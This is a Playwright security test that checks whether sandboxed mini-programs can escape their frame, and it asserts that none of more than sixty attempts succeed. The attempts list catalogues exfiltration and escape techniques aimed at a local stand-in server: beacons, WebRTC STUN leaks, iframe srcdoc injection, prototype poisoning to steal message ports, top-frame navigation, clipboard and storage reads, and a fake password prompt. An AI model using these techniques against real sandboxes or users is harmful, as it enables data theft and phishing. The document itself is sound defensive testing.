// Ways out of a program's frame. A hostile program tries each; a server that listens for all of them must hear of none.
import { once } from 'node:events';
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import { expect, test } from '@playwright/test';
import { Shelf, xdc } from '../pages/programs.mjs';
import { begin } from '../pages/welcome.mjs';

/** Hears of whatever reaches it: requests by their path, packets by their port. */
class Ear {
  heard = [];

  static async open() {
    const ear = new Ear();
    ear.http = createServer((request, response) => {
      if (request.url !== '/favicon.ico') ear.heard.push(request.url);
      response.setHeader('Access-Control-Allow-Origin', '*');
      response.setHeader('Content-Type', 'text/html');
      response.end(request.url === '/here' ? '<title>here</title>' : '');
    }).listen(0, '127.0.0.1');
    ear.http.on('upgrade', (request, socket) => {
      ear.heard.push(request.url);
      socket.destroy();
    });
    await once(ear.http, 'listening');
    ear.udp = createSocket('udp4').on('message', () => ear.heard.push('udp'));
    ear.udp.bind(0, '127.0.0.1');
    await once(ear.udp, 'listening');
    ear.url = `http://127.0.0.1:${ear.http.address().port}`;
    ear.stun = `stun:127.0.0.1:${ear.udp.address().port}`;
    return ear;
  }

  close() {
    this.http.close();
    this.http.closeAllConnections();
    this.udp.close();
  }
}

/** What a program tries. Each ends when it has failed, throws, or says `out(…)` where it got what it must not have. */
const ATTEMPTS = `
const soon = () => new Promise((done) => setTimeout(done, 150));
const ends = (it, ...names) => new Promise((done) => { for (const name of names) it.addEventListener(name, done, { once: true }); setTimeout(done, 300); });
const add = (name, how = {}, ...children) => { const it = Object.assign(document.createElement(name), how); it.append(...children); document.body.append(it); return it; };
const page = (what) => '<script>parent.postMessage({ escaped: ' + JSON.stringify(what) + ', rtc: typeof RTCPeerConnection }, "*")</' + 'script>';
const stun = async (make) => { const it = new make({ iceServers: [{ urls: STUN }] }); it.createDataChannel('x'); await it.setLocalDescription(await it.createOffer()); await soon(); };
window.attempts = {
  // Requests.
  fetch: () => fetch(EAR + '/fetch'),
  'fetch without CORS': () => fetch(EAR + '/no-cors', { mode: 'no-cors' }),
  'fetch kept alive': () => fetch(EAR + '/keepalive', { keepalive: true, method: 'POST', body: 'x' }),
  'fetch of the app': async () => { const it = await fetch(APP + 'index.html'); out('read ' + it.status); },
  'fetch in a worker': () => new Promise((done) => { const it = new Worker(URL.createObjectURL(new Blob(['fetch("' + EAR + '/worker").catch(() => {}).then(() => postMessage(1))']))); it.onmessage = it.onerror = done; setTimeout(done, 500); }),
  'fetch in a worker that is its own address': () => new Promise((done) => { const it = new Worker('data:text/javascript,' + encodeURIComponent('fetch("' + EAR + '/worker-data").catch(() => {}).then(() => postMessage(1))')); it.onmessage = it.onerror = done; setTimeout(done, 500); }),
  XMLHttpRequest: () => { const it = new XMLHttpRequest(); it.open('GET', EAR + '/xhr'); it.send(); return ends(it, 'loadend'); },
  sendBeacon: () => { navigator.sendBeacon(EAR + '/beacon', 'x'); return soon(); },
  WebSocket: () => ends(new WebSocket(EAR.replace('http', 'ws') + '/socket'), 'error', 'open'),
  EventSource: () => ends(new EventSource(EAR + '/events'), 'error', 'open'),
  WebTransport: async () => { await new window.WebTransport(EAR.replace('http', 'https') + '/transport').ready; },
  // WebRTC, which no policy forbids.
  RTCPeerConnection: () => stun(window.RTCPeerConnection ?? window.webkitRTCPeerConnection),
  'RTCPeerConnection of an empty frame': () => stun(add('iframe').contentWindow.RTCPeerConnection),
  'a page in a frame': () => (add('iframe', { srcdoc: page('srcdoc') }), soon()),
  'a page in a frame, as an attribute': () => { const it = document.createElement('iframe'); it.setAttribute('srcdoc', page('attribute')); document.body.append(it); return soon(); },
  'a page in a frame, as an attribute of another space': () => { const it = document.createElement('iframe'); it.setAttributeNS(null, 'srcdoc', page('ns')); document.body.append(it); return soon(); },
  'a page in a frame, as a node': () => { const it = document.createElement('iframe'); const at = document.createAttribute('srcdoc'); it.setAttributeNode(at); at.value = page('node'); document.body.append(it); return soon(); },
  'a frame in markup': () => { add('div').innerHTML = '<iframe srcdoc=\\'' + page('markup') + '\\'></iframe>'; return soon(); },
  'a frame in markup in capitals': () => { add('div').innerHTML = '<IFRAME/srcdoc=\\'' + page('capitals') + '\\'></IFRAME>'; return soon(); },
  'a frame in a shadow': () => { const it = add('div').attachShadow({ mode: 'closed' }); it.innerHTML = '<iframe srcdoc=\\'' + page('shadow') + '\\'></iframe>'; return soon(); },
  'a frame in a shadow of markup': () => { add('div').setHTMLUnsafe('<div><template shadowrootmode=open><iframe srcdoc=\\'' + page('declared') + '\\'></iframe></template></div>'); return soon(); },
  'a frame that is written in pieces': () => { document.write('<ifr'); document.write('ame srcdoc=\\'' + page('pieces') + '\\'></iframe>'); addEventListener('message', hear); return soon(); },
  'a frame in a fragment': () => { document.body.append(document.createRange().createContextualFragment('<iframe srcdoc=\\'' + page('fragment') + '\\'></iframe>')); return soon(); },
  'a frame in another document': () => { document.body.append(document.importNode(new DOMParser().parseFromString('<h:html xmlns:h="http://www.w3.org/1999/xhtml"><h:iframe srcdoc="' + page('xml').replaceAll('<', '&lt;').replaceAll('"', '&quot;') + '"/></h:html>', 'text/xml').documentElement, true)); return soon(); },
  'a frame in an entity': () => { document.body.append(document.importNode(new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e "&#60;h:iframe xmlns:h=\\'http://www.w3.org/1999/xhtml\\' srcdoc=\\'' + page('entity').replaceAll('<', '&#38;lt;').replaceAll('"', '&#38;quot;') + '\\'/>">]><x>&e;</x>', 'text/xml').documentElement, true)); return soon(); },
  'a frame in a document that was read': async () => { const it = new XMLHttpRequest(); it.open('GET', URL.createObjectURL(new Blob(['<iframe srcdoc=\\'' + page('read') + '\\'></iframe>'], { type: 'text/html' }))); it.responseType = 'document'; it.send(); await ends(it, 'loadend'); document.body.append(it.response.body.firstChild); await soon(); },
  'a frame that a stylesheet makes': async () => { const it = new XSLTProcessor(); out('made'); },
  'a frame of a program': () => { const it = add('iframe'); it.src = 'javascript:parent.postMessage({ escaped: "program" }, "*")'; return soon(); },
  'a frame of data': () => (add('iframe', { src: 'data:text/html,' + encodeURIComponent(page('data')) }), soon()),
  'a frame of its own files': () => (add('iframe', { src: URL.createObjectURL(new Blob([page('blob')], { type: 'text/html' })) }), soon()),
  'a frame of elsewhere': () => (add('iframe', { src: EAR + '/frame' }), soon()),
  'an object and an embedded page': () => (add('object', { data: EAR + '/object' }), add('embed', { src: EAR + '/embed' }), soon()),
  'functions of the language that lie': () => { const [replace, exec, test] = [String.prototype.replace, RegExp.prototype.exec, RegExp.prototype.test]; String.prototype.replace = function () { return this; }; RegExp.prototype.exec = () => null; RegExp.prototype.test = () => false; try { add('div').innerHTML = '<iframe srcdoc=\\'' + page('liar') + '\\'></iframe>'; } finally { Object.assign(RegExp.prototype, { exec, test }); String.prototype.replace = replace; } return soon(); },
  'the policy itself': () => { add('iframe', { srcdoc: trustedTypes.defaultPolicy.createHTML(page('policy'), 'TrustedHTML', 'Element innerHTML') }); return soon(); },
  'a function that is called through a lie': async () => { const { call, apply } = Function.prototype; let native = null; try { Function.prototype.call = Function.prototype.apply = function () { native ??= this; }; const it = new XMLHttpRequest(); it.responseType = 'document'; } finally { Object.assign(Function.prototype, { call, apply }); } if (native) out('got ' + native.name); },
  'a frame made for another document': () => { const it = document.implementation.createHTMLDocument('').createElement('iframe'); it.setAttribute('srcdoc', page('other')); document.body.append(document.adoptNode(it)); return soon(); },
  'a frame made for a document of XML': () => { const it = document.implementation.createDocument('', '', null).createElementNS('http://www.w3.org/1999/xhtml', 'iframe'); it.setAttribute('srcdoc', page('xhtml')); document.body.append(it); return soon(); },
  'a frame whose page is put there by name': () => { const it = document.createElement('iframe'); const at = document.createAttribute('srcdoc'); at.value = page('named'); it.attributes.setNamedItem(at); document.body.append(it); return soon(); },
  'a frame that is copied': () => { const it = document.createElement('iframe'); it.srcdoc = page('copied'); document.body.append(it.cloneNode(true)); return soon(); },
  'a request for later': () => { fetchLater(EAR + '/later', { activateAfter: 0 }); return soon(); },
  'the port of the app': async () => { const own = MessagePort.prototype.postMessage; let stolen = null; MessagePort.prototype.postMessage = function (...all) { stolen ??= this; return own.apply(this, all); }; try { webxdc.sendUpdate({ payload: 1 }, ''); await webxdc.getAllUpdates(); } finally { MessagePort.prototype.postMessage = own; } if (stolen) out('a port'); },
  'the port of the app, by what it hears': async () => { const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data'); let stolen = null; Object.defineProperty(MessageEvent.prototype, 'data', { ...data, get() { if (this.target instanceof MessagePort) stolen = this.target; return data.get.call(this); } }); try { await webxdc.getAllUpdates(); } finally { Object.defineProperty(MessageEvent.prototype, 'data', data); } if (stolen) out('a port'); },
  'what all objects have': async () => { const lies = { page: 'index.html', local: [['a', 'b']], teahouse: 'ready', widget: '{}', prelude: 'x', 0: 0, 1: 'page' }; Object.assign(Object.prototype, lies); try { webxdc.sendUpdate({ payload: 1 }, ''); await webxdc.getAllUpdates(); } finally { for (const name of Object.keys(lies)) delete Object.prototype[name]; } await soon(); },
  'another policy': () => { trustedTypes.createPolicy('mine', { createHTML: (it) => it }); out('made'); },
  // What pages load.
  image: () => ends(add('img', { src: EAR + '/image' }), 'error', 'load'),
  'image in markup': () => { add('div').innerHTML = '<img src="' + EAR + '/markup">'; return soon(); },
  'image of SVG': () => { add('div').innerHTML = '<svg><image href="' + EAR + '/svg"/></svg>'; return soon(); },
  'sound and film': () => (add('audio', { src: EAR + '/sound' }), add('video', { src: EAR + '/film', poster: EAR + '/poster' }), soon()),
  font: async () => { await new FontFace('x', 'url(' + EAR + '/font)').load(); },
  stylesheet: () => ends(add('link', { rel: 'stylesheet', href: EAR + '/css' }), 'error', 'load'),
  'image of a style': () => { add('div').style.backgroundImage = 'url(' + EAR + '/background)'; add('style', {}, '@import "' + EAR + '/import"; p { cursor: url(' + EAR + '/cursor), auto }'); return soon(); },
  script: () => ends(add('script', { src: EAR + '/script' }), 'error', 'load'),
  module: () => import(EAR + '/module'),
  'prefetch, preload and others': () => { for (const rel of ['prefetch', 'preload', 'modulepreload', 'preconnect', 'dns-prefetch', 'prerender', 'manifest', 'icon']) add('link', { rel, href: EAR + '/' + rel, as: 'image' }); return soon(); },
  'rules of speculation': () => (add('script', { type: 'speculationrules' }, JSON.stringify({ prefetch: [{ source: 'list', urls: [EAR + '/speculation'] }] })), soon()),
  'a report of what is forbidden': () => { add('meta', { httpEquiv: 'Content-Security-Policy', content: "img-src 'none'; report-uri " + EAR + '/report' }); add('img', { src: 'x.png' }); return soon(); },
  // Going elsewhere.
  form: () => { add('form', { action: EAR + '/form', method: 'post' }).submit(); return soon(); },
  'a form that asks': () => { const it = add('form', { action: EAR + '/asks' }, Object.assign(document.createElement('input'), { name: 'q', value: 'x' })); it.requestSubmit(); return soon(); },
  'a form that a button sends elsewhere': () => { const it = Object.assign(document.createElement('button'), { formAction: EAR + '/button', formMethod: 'post' }); add('form', {}, it); it.click(); return soon(); },
  'a form for another window': async () => { for (const target of ['_top', '_parent', '_blank', 'x']) { add('form', { action: EAR + '/target', target }).requestSubmit(); await soon(); } },
  'a form of a script': () => { add('form', { action: 'javascript:top.location="' + EAR + '/script-form"' }).requestSubmit(); return soon(); },
  'a form of its own page': () => { add('form', { action: EAR + '/own', method: 'post' }, add('input', { name: 'q' })); document.forms[document.forms.length - 1].submit(); return soon(); },
  window: () => { if (open(EAR + '/window')) out('opened'); return soon(); },
  'a link': () => { add('a', { href: EAR + '/link', target: '_blank', ping: EAR + '/ping' }).click(); return soon(); },
  'a link that saves': () => { add('a', { href: EAR + '/download', download: 'x' }).click(); return soon(); },
  'the top page': () => { top.location = EAR + '/top'; return soon(); },
  'the page around it': () => { parent.location = EAR + '/parent'; return soon(); },
  'what was looked at before': () => { history.back(); history.go(-2); return soon(); },
  'an address of the app': () => { history.pushState(null, '', APP + 'index.html'); if (location.href.startsWith(APP)) out(location.href); },
  // What belongs to others.
  // What is called its parent is not the page around it, which is found all the same.
  'the page around it, by its place': () => { for (let at = 0; at < top.length; at += 1) top[at].location = EAR + '/around'; return soon(); },
  'the page around it, by its place, read': () => out(top[0].document.title),
  'the page around it, read': () => out(parent.document.title),
  'the top page, read': () => out(top.document.title + top.localStorage.length),
  opener: () => { if (opener) out('opener'); },
  cookies: () => { document.cookie = 'a=1'; if (document.cookie) out(document.cookie); },
  'databases': () => new Promise((done) => { const it = indexedDB.open('teahouse-shelf'); it.onsuccess = () => { if (it.result.objectStoreNames.length) out('opened'); done(); }; it.onerror = done; }),
  'names of databases': async () => { for (const { name } of await indexedDB.databases()) if (name !== 'teahouse-shelf') out(name); },
  caches: async () => { await caches.keys(); out('read'); },
  'the file system': async () => { await navigator.storage.getDirectory(); out('read'); },
  'a service worker': async () => { await navigator.serviceWorker.register(APP + 'sw.js'); out('registered'); },
  'a shared worker': () => { new SharedWorker(APP + 'shelf-worker.js', 'teahouse-shelf'); out('connected'); },
  'a worker of the app': () => { const it = new Worker(APP + 'boot.js'); it.onmessage = () => out('heard'); return ends(it, 'error'); },
  'locks': async () => { await navigator.locks.request('teahouse-shelf', () => out('held')); },
  'a channel of the app': () => { const it = new BroadcastChannel('teahouse-shelf'); it.onmessage = () => out('heard'); it.postMessage('x'); return soon(); },
  clipboard: async () => out(await navigator.clipboard.readText()),
  camera: async () => { await navigator.mediaDevices.getUserMedia({ video: true }); out('filmed'); },
  place: () => new Promise((done) => navigator.geolocation.getCurrentPosition(() => { out('found'); done(); }, done)),
  notifications: async () => { if (await Notification.requestPermission() === 'granted') out('granted'); },
  'the whole screen': async () => { await document.documentElement.requestFullscreen(); out('filled'); },
  'a dialog of the browser': () => { if (confirm('Your password?')) out('confirmed'); if (prompt('Your password?') !== null) out('told'); },
};`;

// In a file of its own: what stands in a page goes through the same function as all other markup.
const PROGRAM = (ear, app) => ({
  'index.html': '<!doctype html><body><p id="here">here</p><script src="attempts.js"></script></body>',
  'attempts.js': `const [EAR, STUN, APP] = ${JSON.stringify([ear.url, ear.stun, app])};
    const escaped = [];
    const out = (what) => escaped.push(what);
    const hear = ({ data }) => data?.escaped && escaped.push(data.escaped);
    window.escaped = escaped;
    ${ATTEMPTS}`,
});

async function prisoner(page) {
  const ear = await Ear.open();
  await begin(page, 'Ada');
  const shelf = new Shelf(page);
  await shelf.goto();
  await shelf.install(xdc(PROGRAM(ear, new URL('/', page.url()).href), 'Prisoner'), 'Prisoner');
  const program = await shelf.open('Prisoner');
  await expect(program.locator('#here')).toBeVisible();
  return { ear, shelf, program, frame: await shelf.frame() };
}

/** Everything that was on its way has arrived by then. */
const settled = async (page, ear) => {
  const other = await page.context().newPage();
  await other.goto(`${ear.url}/here`);
  await other.close();
};

test('no way out of sixty and more leads anywhere', async ({ page }) => {
  test.setTimeout(120_000);
  const { ear, shelf, frame } = await prisoner(page);
  const names = await frame.evaluate(() => Object.keys(window.attempts));
  for (const name of names) {
    await test.step(name, async () => {
      await frame.evaluate(async (name) => {
        // Whatever was written ends all listening.
        addEventListener('message', hear);
        const over = new Promise((done) => setTimeout(done, 2_000));
        await Promise.race([over, (async () => window.attempts[name]())().catch(() => {})]);
      }, name);
      expect(await frame.evaluate(() => window.escaped.splice(0)), name).toEqual([]);
    });
  }
  await settled(page, ear);
  expect(ear.heard).toEqual(['/here']);
  expect(page.context().pages()).toHaveLength(1);
  await expect(page.getByRole('button', { name: 'Program menu', exact: true })).toBeVisible();
  console.log(`${names.length} ways out were tried, and none led anywhere.`);
  expect(names.length).toBeGreaterThan(60);
  await shelf.goto();
  await expect(shelf.link('Prisoner')).toBeVisible();
  ear.close();
});

test('the same ways lead out of an ordinary page, so the server does hear', async ({ page }) => {
  const ear = await Ear.open();
  await page.goto(`${ear.url}/here`);
  await page.evaluate(async ({ url, stun }) => {
    const soon = () => new Promise((done) => setTimeout(done, 60));
    await fetch(`${url}/fetch`);
    navigator.sendBeacon(`${url}/beacon`, 'x');
    document.body.append(Object.assign(document.createElement('img'), { src: `${url}/image` }));
    new WebSocket(`${url.replace('http', 'ws')}/socket`);
    const it = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
    it.createDataChannel('x');
    await it.setLocalDescription(await it.createOffer());
    await soon();
  }, { url: ear.url, stun: ear.stun });
  for (const what of ['/fetch', '/beacon', '/image', '/socket', 'udp']) await expect.poll(() => ear.heard).toContain(what);
  ear.close();
});

for (const [way, run] of [
  ['its own address', (url) => (location.href = `${url}/location`)],
  ['a form that nobody stops', (url) => {
    const form = document.body.appendChild(Object.assign(document.createElement('form'), { action: `${url}/form`, method: 'post' }));
    form.addEventListener('submit', (event) => event.stopPropagation());
    form.requestSubmit();
  }],
  ['a page that is fetched anew', (url) => document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${url}/refresh` }))],
]) {
  test(`a program that goes elsewhere by ${way} gets nowhere`, async ({ page }) => {
    const { ear, shelf, frame } = await prisoner(page);
    await frame.evaluate(`(${run})(${JSON.stringify(ear.url)})`).catch(() => {});
    await settled(page, ear);
    expect(ear.heard).toEqual(['/here']);
    await shelf.goto();
    await expect(shelf.link('Prisoner')).toBeVisible();
    ear.close();
  });
}

test('the app heeds no message but those of its own frame, and none that is not of its kind', async ({ page }) => {
  const { ear, program, frame } = await prisoner(page);
  await frame.evaluate(() => {
    for (const window of [parent, top, ...Array.from({ length: top.length }, (_, at) => top[at])]) {
      for (const word of [{ teahouse: 'ready' }, { teahouse: 'unsafe' }, 'teahouse:prelude', [1, '{"method":"view.close"}'], { page: 'index.html' }]) {
        const channel = new MessageChannel();
        channel.port1.onmessage = () => window.escaped.push('a port');
        window.postMessage(word, '*', [channel.port2]);
      }
    }
  });
  await expect(program.locator('#here')).toBeVisible();
  await expect(page.getByText('The program was stopped.')).toBeHidden();
  expect(await frame.evaluate(() => window.escaped)).toEqual([]);
  ear.close();
});
